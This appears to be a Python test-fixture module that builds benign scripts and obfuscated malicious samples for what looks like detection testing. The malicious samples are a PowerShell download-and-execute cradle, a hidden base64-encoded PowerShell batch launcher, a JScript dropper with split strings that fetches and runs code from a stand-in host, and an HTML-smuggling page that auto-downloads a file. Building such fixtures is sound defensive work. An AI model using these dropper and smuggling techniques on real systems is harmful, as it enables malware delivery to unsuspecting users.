"""Builders of scripts and pages for tests: obfuscated ones and those of good people. What they name does not exist."""

from __future__ import annotations

import base64

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')"
INSTALLER = (
    b"# Installs the tools of our team\r\n$ErrorActionPreference = 'Stop'\r\n"
    b"Invoke-WebRequest -Uri https://tools.example.com/setup.msi -OutFile setup.msi\r\n"
    b"Start-Process msiexec.exe -ArgumentList '/i setup.msi' -Wait\r\n"
)
LIBRARY = (
    b'!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var s="";'
    b'for(var i=0;i<9;i++){s+=String.fromCharCode(65+i)}return new Function("return this")(),{template:function(x){'
    b'return eval("("+x+")")},space:/[\\u0009\\u00A0\\uFEFF]/}});\n'
)
BACKUP = b"@echo off\r\nset target=D:\\backup\r\nif not exist %target% mkdir %target%\r\nxcopy /s C:\\data %target%\r\n"
LOGON = (
    b'\' Maps the drives of a department\r\nSet network = CreateObject("WScript.Network")\r\n'
    b'network.MapNetworkDrive "H:", "\\\\server\\home"\r\nMsgBox "Drives are " & "mapped for " & network.UserName\r\n'
)


def encoded_command(command: str = CRADLE, *, options: str = "-nop -w hidden -enc") -> bytes:
    """A batch file with a command of PowerShell in base64."""
    return (
        f"@echo off\r\npowershell.exe {options} {base64.b64encode(command.encode('utf-16-le')).decode()}\r\n".encode()
    )


def char_codes(text: str) -> str:
    return ",".join(str(ord(character)) for character in text)


def vbs_chars(text: str) -> str:
    """Chr(104) & Chr(116) ..."""
    return " & ".join(f"Chr({ord(character)})" for character in text)


def dropper_js() -> bytes:
    """Downloads and runs, its words in pieces and codes."""
    return (
        f"var a = new ActiveXObject(String.fromCharCode({char_codes('MSXML2.XMLHTTP')}));\n"
        'var b = new ActiveXObject("WS"+"cr"+"ip"+"t."+"Sh"+"ell");\n'
        'a.open("GET", "ht"+"tp:/"+"/fil"+"es.ex"+"ample"+"/p.exe", false); a.send(); eval(a.responseText);\n'
        'b.Run("cmd.exe /c %TEMP%\\\\p.exe", 0);\n'
    ).encode()


def smuggling_page(payload: bytes, name: str = "invoice.zip", *, script: str = "", text: str = "Loading") -> bytes:
    """A page that builds a file of base64, names it and clicks by itself."""
    encoded = base64.b64encode(payload).decode()
    script = script or (
        f'var d = atob("{encoded}"); var n = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) '
        "n[i] = d.charCodeAt(i); var a = document.createElement('a'); "
        f"a.href = URL.createObjectURL(new Blob([n])); a.download = '{name}'; document.body.appendChild(a); a.click();"
    )
    return page_with(f"<script>{script}</script>", text=text)


def page_with(markup: str, *, text: str = "Good day") -> bytes:
    return f"<!DOCTYPE html><html><head><title>A page</title></head><body><p>{text}</p>{markup}</body></html>".encode()


def svg(inside: str = "<circle cx='5' cy='5' r='4'/>", *, attributes: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" {attributes}>{inside}</svg>'
    ).encode()
